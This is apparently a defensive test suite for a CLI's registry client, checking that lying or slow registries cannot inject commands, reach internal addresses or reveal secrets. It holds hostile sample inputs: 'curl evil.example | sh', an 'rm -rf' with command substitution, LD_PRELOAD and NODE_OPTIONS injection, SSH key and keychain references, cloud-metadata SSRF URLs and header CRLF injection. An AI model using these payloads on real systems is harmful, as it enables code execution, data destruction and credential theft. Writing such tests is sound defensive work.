/** Registries that lie, or are slow. What they say must not run, reach or reveal anything. */

import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import { describe, expect, it, onTestFinished } from 'vitest';

import { Registry } from '../../../packages/cli/src/registry/registry.js';
import { Home } from '../cli/callsign.js';
import { startRegistry, type Listed, type RegistryOptions } from './registry.js';

const NAME = 'io.github.example/lies';
const npm = {
  registryType: 'npm',
  identifier: 'plain',
  version: '1.0.0',
  transport: { type: 'stdio' },
};
const remote = { type: 'streamable-http', url: 'https://mcp.example.com/mcp' };
const header = (more: object): object => ({ ...remote, headers: [{ name: 'X-Key', ...more }] });

/** Adds the server without any question. Nothing is started. */
async function added(server: object, options: RegistryOptions = {}, ...more: string[]) {
  const listed = { name: NAME, version: '1.0.0', ...server } as Listed;
  const registry = await startRegistry([listed], options);
  const home = new Home();
  home.configure({}, { registry: { url: registry.url } });
  const run = (...args: string[]) => home.run(args);
  const ended = await run('add', NAME, '--yes', '--no-start', '--as', 'lies', ...more);
  const { stdout } = await run('list', '--json');
  return { ...ended, isAdded: stdout.includes('"lies"'), run, home };
}

/** A server of one answer, for registries that are none. */
async function answering(answer: (write: (text: string) => void, end: () => void) => void) {
  const http = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'application/json' });
    answer(
      (text) => void response.write(text),
      () => response.end(),
    );
  }).listen(0, '127.0.0.1');
  await once(http, 'listening');
  onTestFinished(() => {
    http.closeAllConnections();
    http.close();
  });
  return `http://127.0.0.1:${(http.address() as AddressInfo).port}`;
}

describe('a package that is not what it seems', () => {
  it.each([
    ['a flag for node', { identifier: '--import=./evil.mjs' }],
    ['a short flag', { identifier: '-c' }],
    ['shell characters', { identifier: 'plain; curl evil.example | sh' }],
    ['a command substitution', { identifier: '$(id)' }],
    ['a path', { identifier: '../evil' }],
    ['an absolute path', { identifier: '/tmp/evil' }],
    ['an address', { identifier: 'https://evil.example/x.tgz' }],
    ['a repository', { identifier: 'github:evil/x' }],
    ['an alias', { identifier: 'plain@npm:evil' }],
    ['a control character', { identifier: 'plain\u001b[2K' }],
    ['a letter that looks like another one', { identifier: 'pl\u0430in' }],
    ['an invisible letter', { identifier: 'pla\u200bin' }],
    ['a name that is a list', { identifier: ['plain'] }],
    ['a tag in place of a version', { version: 'latest' }],
    ['a range', { version: '^1.0.0' }],
    ['no version', { version: undefined }],
    ['an address in place of a version', { version: 'https://evil.example/x.tgz' }],
    ['a file in place of a version', { version: '1.0.0 --import=x' }],
    ['another package registry', { registryBaseUrl: 'https://npm.evil.example' }],
    ['another kind', { registryType: 'shell' }],
    ['a kind of every object', { registryType: 'constructor' }],
    [
      'flags for npx',
      {
        runtimeArguments: [
          { type: 'named', name: '--node-options', value: '--import=data:text/javascript,1' },
        ],
      },
    ],
    ['a second package', { runtimeArguments: [{ type: 'named', name: '-p', value: 'evil' }] }],
    ['a flag for uvx', { registryType: 'pypi', identifier: '--from=evil' }],
    [
      'a reference for uvx',
      { registryType: 'pypi', identifier: 'plain @ git+https://evil.example' },
    ],
    [
      'code by a variable',
      { environmentVariables: [{ name: 'NODE_OPTIONS', value: '--import=x' }] },
    ],
    [
      'code by a default',
      { environmentVariables: [{ name: 'node_options', default: '--import=x' }] },
    ],
    [
      'another npm registry',
      { environmentVariables: [{ name: 'npm_config_registry', value: 'https://x.example' }] },
    ],
    ['another PATH', { environmentVariables: [{ name: 'PATH', value: '/tmp' }] }],
    ['a library of OpenSSL', { environmentVariables: [{ name: 'OPENSSL_CONF', value: '/x' }] }],
    ['a library', { environmentVariables: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] }],
    ['another Python', { environmentVariables: [{ name: 'PYTHONPATH', value: '/tmp' }] }],
    ['a proxy', { environmentVariables: [{ name: 'HTTPS_PROXY', value: 'http://evil.example' }] }],
    [
      'a secret of this machine',
      { environmentVariables: [{ name: 'X', value: '${keychain:github}' }] },
    ],
    [
      'a file of this machine',
      { packageArguments: [{ type: 'positional', value: '${file:~/.ssh/id_rsa}' }] },
    ],
    [
      'a variable of this machine',
      { environmentVariables: [{ name: 'X', default: '$GITHUB_TOKEN' }] },
    ],
    ['the start of a reference', { environmentVariables: [{ name: 'X', value: 'a$' }] }],
    ['a prototype', { environmentVariables: [{ name: '__proto__', value: 'x' }] }],
    ['a line break in an argument', { packageArguments: [{ type: 'positional', value: 'a\nb' }] }],
    ['an argument of another kind', { packageArguments: [{ type: 'shell', value: 'a' }] }],
    ['arguments that are no list', { packageArguments: { type: 'positional' } }],
    [
      'too many arguments',
      { packageArguments: Array.from({ length: 101 }, () => ({ type: 'positional', value: 'a' })) },
    ],
    [
      'an argument that is too long',
      { packageArguments: [{ type: 'positional', value: 'a'.repeat(5_000) }] },
    ],
  ])('is not added: %s', async (_, more) => {
    const { code, stderr, stdout, isAdded } = await added({ packages: [{ ...npm, ...more }] });
    expect({ code, isAdded }).toEqual({ code: 1, isAdded: false });
    expect(stderr).toContain('cannot be added from the registry');
    // oxlint-disable-next-line no-control-regex
    expect(stdout + stderr).not.toMatch(/[\u0000-\u0008\u001b\u200b]/);
  });

  it('cannot break out of its argument', async () => {
    const value = '--import=x; rm -rf "$(pwd)" `id` {x}';
    const packageArguments = [{ type: 'named', name: '--note', value }];
    const { code, home } = await added({ packages: [{ ...npm, packageArguments }] });
    expect(code).toBe(0);
    const { stdout } = await home.run(['get', 'lies', '--json']);
    expect(JSON.parse(stdout)).toMatchObject({
      entry: { command: 'npx', args: ['-y', 'plain@1.0.0', '--note', value] },
    });
  });
});

describe('an address that is not what it seems', () => {
  it.each([
    ['metadata of a cloud', { ...remote, url: 'http://169.254.169.254/latest/meta-data' }, 7],
    ['metadata, spelled in another way', { ...remote, url: 'http://0xa9fea9fe/' }, 7],
    ['every address', { ...remote, url: 'http://0.0.0.0:8080/mcp' }, 7],
    ['a file', { ...remote, url: 'file:///etc/passwd' }, 1],
    ['a password', { ...remote, url: 'https://user:pass@mcp.example.com/mcp' }, 1],
    ['another kind', { ...remote, type: 'stdio' }, 1],
    ['a part that nobody described', { ...remote, url: 'https://{x}.example.com/mcp' }, 1],
    ['a secret of this machine', { ...remote, url: 'https://evil.example/${keychain:github}' }, 1],
    ['a secret in a header', header({ value: 'Bearer ${keychain:github}' }), 1],
    ['a secret in a default', header({ default: '${file:~/.ssh/id_rsa}' }), 1],
    ['a line break in a header', header({ value: 'a\r\nX-Other: b' }), 1],
    ['a header of the connection', { ...remote, headers: [{ name: 'Host', value: 'x' }] }, 1],
    ['no header', { ...remote, headers: [{ name: 'a b', value: 'x' }] }, 1],
  ])('is not added: %s', async (_, each, exit) => {
    const { code, isAdded } = await added({ remotes: [each] });
    expect({ code, isAdded }).toEqual({ code: exit, isAdded: false });
  });

  it('may be of a private network only where the operator says so', async () => {
    const inner = 'http://10.1.2.3:8080/mcp';
    const far = new Registry({ url: 'https://9.9.9.9' });
    expect(await far.addressProblem(inner)).toBe('it is not encrypted');
    for (const url of ['https://10.1.2.3', 'https://[::1]/mcp', 'https://localhost:1/mcp']) {
      expect(await far.addressProblem(url)).toContain('is not a public address');
    }
    expect(await far.addressProblem('https://9.9.9.10/mcp')).toBeUndefined();
    expect(await new Registry({ url: 'http://[::1]:1' }).addressProblem(inner)).toBeUndefined();
    const allowPrivate = ['http://10.1.2.3:8080'];
    const company = new Registry({ url: 'https://9.9.9.9', allowPrivate });
    expect(await company.addressProblem(inner)).toBeUndefined();
    expect(await company.addressProblem('http://10.1.2.3:81')).toBe('it is not encrypted');
  });
});

describe('a registry that lies', () => {
  it('cannot give another server than the one that was asked for', async () => {
    const answer: RegistryOptions['answer'] = (_, response) => {
      const server = { name: 'io.github.example/1ies', version: '1.0.0', packages: [npm] };
      response.end(JSON.stringify({ server }));
      return true;
    };
    const { code, stderr } = await added({}, { answer });
    expect(code).toBe(4);
    expect(stderr).toContain('it is another one: io.github.example/1ies');
  });

  it('cannot give what it has removed', async () => {
    const { code, stderr } = await added(
      { packages: [npm] },
      { status: { [`${NAME}@1.0.0`]: 'deleted' } },
    );
    expect(code).toBe(4);
    expect(stderr).toContain('the registry has removed it');
    const old = await added({ packages: [npm] }, { status: { [`${NAME}@1.0.0`]: 'deprecated' } });
    expect(old).toMatchObject({ code: 0, stderr: expect.stringContaining('is deprecated') });
  });

  it.each([
    ['no JSON', '<html>', 'its answer is not JSON'],
    ['nothing', '', 'its answer is not JSON'],
    ['a list', '[]', 'there is no server in it'],
    ['null', 'null', 'there is no server in it'],
    ['numbers for texts', '{"server":{"name":5,"version":1}}', 'its name is not one'],
    ['a deep answer', '['.repeat(100_000) + ']'.repeat(100_000), 'cannot be used'],
  ])('is refused with a reason: %s', async (_, body, reason) => {
    const answer: RegistryOptions['answer'] = (__, response) => {
      response.end(body);
      return true;
    };
    const { code, stderr, isAdded, run } = await added({}, { answer });
    expect({ code, isAdded }).toEqual({ code: 4, isAdded: false });
    expect(stderr).toContain(reason);
    expect(await run('search', '--registry', 'lies')).toMatchObject({ code: 4 });
  });

  it('shows no control characters, and names the servers that look alike', async () => {
    const bold = '\u001b[31mred\u202e';
    const servers = [
      {
        name: 'io.github.example/paypal',
        version: '1.0.0',
        description: bold,
        title: bold,
        packages: [npm],
      },
      { name: 'io.github.example/paypa1', version: '1.0.0', packages: [npm] },
      { name: 'io.github.ex\u0430mple/paypal', version: '1.0.0', packages: [npm] },
      { name: '--flag/paypal', version: '1.0.0', packages: [npm] },
      { name: 'io.github.example/paypal-2', version: '1.0.0\u001b[2K', packages: [npm] },
    ];
    const registry = await startRegistry(servers);
    const home = new Home();
    home.configure({}, { registry: { url: registry.url } });
    const { stdout, stderr } = await home.run(['search', '--registry', 'paypa']);
    // oxlint-disable-next-line no-control-regex
    expect(stdout + stderr).not.toMatch(/[\u001b\u202e\u0430]/);
    expect(stdout.match(/Looks like another name here/g)).toHaveLength(2);
    expect(stderr).toContain('3 servers of the registry cannot be used');
    const shown = await home.run(['add', 'io.github.example/paypal', '--no-start']);
    // oxlint-disable-next-line no-control-regex
    expect(shown.stdout + shown.stderr).not.toMatch(/[\u001b\u202e]/);
  });

  it('cannot lead to an address of this machine by a redirect, and gets no headers there', async () => {
    const inner = await startRegistry([{ name: NAME, version: '1.0.0', packages: [npm] }]);
    const answer: RegistryOptions['answer'] = ({ url }, response) => {
      response.writeHead(302, { location: `${inner.url}${url}` }).end();
      return true;
    };
    const { code, stderr } = await added({}, { answer });
    expect(code).toBe(4);
    expect(stderr).toContain('is not a public address (loopback)');
    expect(inner.asked).toEqual([]);
  });

  it('cannot fill the memory', async () => {
    let isClosed = false;
    const answer: RegistryOptions['answer'] = (_, response) => {
      const part = `"${'x'.repeat(65_536)}",`;
      response.write('{"servers":[');
      const more = (): void => void response.write(part, (error) => error ?? setImmediate(more));
      response.on('close', () => (isClosed = true));
      more();
      return true;
    };
    const { code, stderr } = await added({}, { answer });
    expect(code).toBe(4);
    expect(stderr).toContain('its answer is too long');
    await expect.poll(() => isClosed).toBe(true);
  });

  it('cannot give pages without end', async () => {
    let pages = 0;
    const answer: RegistryOptions['answer'] = (_, response) => {
      pages += 1;
      response.end(JSON.stringify({ servers: [], metadata: { nextCursor: `${pages}` } }));
      return true;
    };
    const registry = await startRegistry([], { answer });
    const found = await new Registry({ url: registry.url }).search(['a', 'b']);
    expect({ found, pages }).toEqual({ found: { servers: [], refused: 0 }, pages: 6 });
  });
});

describe('a registry that is slow', () => {
  it('is given up if it does not answer, or if its answer does not end', async () => {
    const mute = await answering(() => undefined);
    const dripping = await answering((write) => {
      const timer = setInterval(() => write(' '), 20);
      onTestFinished(() => clearInterval(timer));
    });
    for (const url of [mute, dripping]) {
      const registry = new Registry({ url, timeoutMs: 300 });
      await expect(registry.server(NAME, 'latest')).rejects.toThrow('it took longer than 0.3 s');
      await expect(registry.search(['x'])).rejects.toThrow('it took longer than 0.3 s');
    }
  });

  it('is named if it cannot be reached, or wants a sign-in', async () => {
    const home = new Home();
    home.configure({}, { registry: { url: 'http://127.0.0.1:1' } });
    const { code, stderr } = await home.run(['search', '--registry', 'x']);
    expect(code).toBe(4);
    expect(stderr).toContain('http://127.0.0.1:1 cannot be used: ECONNREFUSED');
    const answer: RegistryOptions['answer'] = (_, response) => {
      response.writeHead(401).end('{}');
      return true;
    };
    expect(await added({}, { answer })).toMatchObject({ code: 3 });
  });
});

describe('the setting "registry"', () => {
  it.each([
    'http://registry.example.com',
    'https://u:p@registry.example.com',
    'ftp://x',
    'https://x?y',
    '',
  ])('refuses %s', async (url) => {
    const home = new Home();
    home.configure({}, { registry: { url } });
    const { code, stderr } = await home.run(['search', '--registry', 'x']);
    expect(code).toBe(6);
    expect(stderr).toContain('must be an https address');
  });
});
